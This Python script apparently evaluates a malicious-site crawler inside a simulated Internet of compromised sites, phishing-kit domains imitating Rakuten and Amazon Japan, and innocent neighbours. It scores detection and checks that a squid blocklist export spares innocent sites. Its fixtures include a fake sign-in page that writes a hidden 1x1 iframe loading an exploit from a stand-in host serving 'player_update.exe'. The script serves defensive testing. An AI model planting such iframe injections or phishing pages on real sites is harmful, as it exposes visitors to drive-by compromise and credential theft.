#!/usr/bin/env python3
"""neighbourhood_range.py [--inspect N] [--seed N] : a campaign of real visits in the simulated Internet, on a web
of attackers' own sites, sites broken into, shared hosting, cloaked pages and innocent neighbours.

Prints one JSON document: the share of malicious among the first N inspected, the share that inspecting the seeds'
domains in any order would have had, and what of the innocent tenants any blocking export would stop.
SHIKAKE_PROGRAM names the program (default: build/release/shikake)."""
import argparse
import json
import os
import pathlib
import random
import re
import subprocess
import sys
import tempfile
import time

SOURCE = pathlib.Path(__file__).resolve().parents[1]
PROGRAM = os.environ.get("SHIKAKE_PROGRAM", str(SOURCE / "build/release/shikake"))
PLAIN = 'body = "<!DOCTYPE html><title>A page</title><p>Nothing to see.</p>"'
BAD = 'file = "landing.html"'
VICTIMS, LAIRS, PAGES_OF_A_VICTIM = 120, 8, 150
KIT_DOMAINS, INNOCENT = 400, 500
KIT_PATHS = ["/rms/nid/rakutenlogini.php?session=1", "/rms/nid/rakutenverify.php?session=2"]


class World:
    """URLs with what a visit is to find, and the range that serves them."""

    def __init__(self, draw):
        self.hosts, self.malicious, self.cloaked, self.innocent, self.seeds = [], set(), set(), set(), []
        folders = "abcdefgh"
        for folder in folders:  # broken into: the attacker's pages in one folder of an otherwise innocent site
            names = [f"victim{i}.example" for i in range(VICTIMS) if i % len(folders) == folders.index(folder)]
            self.host(names, [(f"/{folder}/c*", BAD, 'when = { referrer = "search" }'), (f"/{folder}/c*", PLAIN, ""),
                              (f"/{folder}/*", BAD, ""), ("/*", PLAIN, "")])
            for name in names:
                self.seeds.append(f"http://{name}/{folder}/seed.php?id=1")
                for page in range(LAIRS):
                    hidden = draw.random() < 0.1
                    url = f"http://{name}/{folder}/{'c' if hidden else 'z'}{page}.php?id={draw.randrange(90)}"
                    (self.cloaked if hidden else self.malicious).add(url)
                for page in range(PAGES_OF_A_VICTIM):
                    self.innocent.add(f"http://{name}/{draw.choice('ijklmnop')}/page{page}.php?id={draw.randrange(50)}")
        kits = []
        for i in range(KIT_DOMAINS):  # attackers' own: one kit, one way of naming hosts, a quarter on shared hosting
            name = f"q{draw.randrange(10**6)}z"
            kits.append(f"{name}.weebly.com" if i % 4 == 0 else f"amazon.co.jp.{name}.example")
            urls = [f"http://{kits[-1]}{path}" for path in KIT_PATHS] + ([f"http://{kits[-1]}/"] if i % 4 else [])
            self.malicious |= set(urls)
            if i < 8:
                self.seeds.append(f"http://{kits[-1]}/rms/nid/rakutenlogini.php?session=9")
                self.seeds += [f"http://{kits[-1]}/?"] if i % 4 else []
        self.host(kits, [("/*", BAD, "")])
        quiet = []
        for i in range(INNOCENT):  # innocent, three in ten on shared hosts, with login pages of their own
            quiet.append(f"shop{i}" + (".weebly.com" if i % 2 else ".duckdns.org") if i % 10 < 3 else f"www.site{i}.example")
            self.innocent |= {f"http://{quiet[-1]}/", f"http://{quiet[-1]}/login.php"}
            for page in range(40):
                self.innocent.add(f"http://{quiet[-1]}/{draw.choice('abcdefgh')}/page{draw.randrange(1000)}.php?id={draw.randrange(50)}")
        self.host(quiet, [("/*", PLAIN, "")])
        self.quiet = quiet

    def host(self, names, replies):
        address = f"198.51.100.{len(self.hosts) + 10}"
        text = f"[[host]]\nnames = {json.dumps(names)}\naddresses = [\"{address}\"]\n"
        for path, body, when in replies:
            text += f'  [[host.reply]]\n  path = "{path}"\n  {when}\n  {body}\n'
        self.hosts.append(text)

    def all(self):
        return sorted(self.malicious | self.cloaked | self.innocent)

    def write(self, folder):
        exploit, program = "view.html", "player_update.exe"
        (folder / exploit).write_bytes((SOURCE / "demo/sites/exploit" / exploit).read_bytes())
        (folder / program).write_bytes((SOURCE / "demo/sites/distribution" / program).read_bytes())
        (folder / "landing.html").write_text(
            "<!DOCTYPE html><title>Sign in</title><script>document.write('<iframe width=1 height=1 "
            "src=\"http://update.player-patch.example/view.html\"></iframe>')</script>")
        rest = (f'[[host]]\nnames = ["update.player-patch.example"]\naddresses = ["192.0.2.201"]\n'
                f'  [[host.reply]]\n  path = "/view.html"\n  file = "{exploit}"\n'
                f'[[host]]\nnames = ["files.patch-mirror.example"]\naddresses = ["192.0.2.200"]\n'
                f'  [[host.reply]]\n  path = "/*"\n  file = "{program}"\n')
        scenario = folder / "scenario.toml"
        scenario.write_text('name = "neighbourhood"\n' + "\n".join(self.hosts) + rest)
        return scenario


def domain(url):
    return ".".join(url.split("/")[2].split(".")[-2:])


def share_by_domain(world, count, draw):
    domains = {domain(url) for url in world.seeds}
    pool = [url for url in world.all() if domain(url) in domains]
    draw.shuffle(pool)
    return sum(url in world.malicious for url in pool[:count]) / len(pool[:count]), len(pool)


def stopped(squid, urls):
    """Which of the URLs a proxy with this list would deny."""
    domains = re.findall(r"^acl shikake_domains dstdomain (\S+)$", squid, re.M)
    regexes = [re.compile(text) for text in re.findall(r"^acl shikake_urls url_regex (\S+)$", squid, re.M)]
    denied = []
    for url in urls:
        host = url.split("/")[2]
        if any(host == name[1:] or host.endswith(name) for name in domains) or any(regex.search(url) for regex in regexes):
            denied.append(url)
    return denied


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--inspect", type=int, default=1000)
    parser.add_argument("--seed", type=int, default=1)
    options = parser.parse_args()
    draw = random.Random(options.seed)
    world = World(draw)
    with tempfile.TemporaryDirectory() as scratch:
        folder = pathlib.Path(scratch)
        scenario = world.write(folder)
        (folder / "pool.txt").write_text("\n".join(world.all()) + "\n")
        (folder / "seeds.txt").write_text("\n".join(world.seeds) + "\n")

        def run(*arguments, inside=True):
            start = [PROGRAM, "range", "run", str(scenario), "--"] if inside else []
            return subprocess.run([*start, PROGRAM, "--home", str(folder / "home"), *arguments], check=True,
                                  stdout=subprocess.PIPE).stdout.decode()

        run("corpus", "add", str(folder / "pool.txt"), inside=False)
        begin = time.monotonic()
        record = json.loads(run("--json", "neighbours", "--seeds", str(folder / "seeds.txt"), "--inspect", str(options.inspect),
                                "--host-interval", "0", "--plot", str(folder / "yield.svg")))
        seconds = time.monotonic() - begin
        rows = [row for row in record["candidates"] if row["inspected"]]
        hits = [row["url"] for row in rows if row["verdict"] == "malicious"]
        wrong = [url for url in hits if url not in world.malicious]
        alone, pool = share_by_domain(world, options.inspect, draw)
        innocents = [url for url in world.innocent if url.split("/")[2] in set(world.quiet)]
        denied = stopped(run("export", "squid"), innocents)
        patterns = [re.compile(row["regex"]) for row in record["patterns"]]
        met = [url for url in innocents if any(regex.search(url) for regex in patterns)]
        share = len(hits) / max(1, len(rows))
        print(json.dumps({
            "urls": len(world.all()), "malicious": len(world.malicious), "cloaked": len(world.cloaked),
            "inspected": len(rows), "without_answer": sum(not row["verdict"] for row in rows),
            "malicious_share": share, "wrong_convictions": len(wrong),
            "by_domain_alone": alone, "pool_by_domain": pool, "times": share / alone if alone else None,
            "innocent_urls_blocked": len(denied), "patterns": len(patterns), "innocent_urls_met_by_patterns": len(met),
            "seconds": seconds}, indent=1))
        return 0 if share >= 10 * alone and not denied and not wrong else 1


if __name__ == "__main__":
    sys.exit(main())
